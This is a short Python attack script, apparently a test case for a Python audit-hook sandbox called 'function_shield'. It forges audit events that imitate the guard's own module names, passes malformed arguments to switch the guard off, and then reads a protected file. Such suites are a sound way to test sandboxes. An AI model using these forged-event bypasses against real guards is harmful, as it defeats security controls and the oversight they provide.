# class: switch_off
# rule: read_write_tmp
# success: forged audit events, in the form that the guard's module sends, loosen the guard
# proof: read
import sys

from attack import FILE, attempt


@attempt
def steal():
    for name in (
        "function_shield.configure",
        "function_shield",
        "function_shield.handshake",
        "function_shield.armed",
    ):
        for arguments in (
            (),
            ([], None, (0, 0, 0, 0)),
            ([], "", (0, 0, 0, 0)),
            ([], "0" * 32, (0, 0, 0, 0)),
            (None, None, None),
            ([], None, (0, 0, 0, 0, 0, 0, 0, 0)),
            ([], None, (-1, 2**70, 0, 0)),
            ("x" * 10**6, b"\xff", {}),
        ):
            try:
                sys.audit(name, *arguments)
            except Exception:
                pass
    return open(FILE).read()
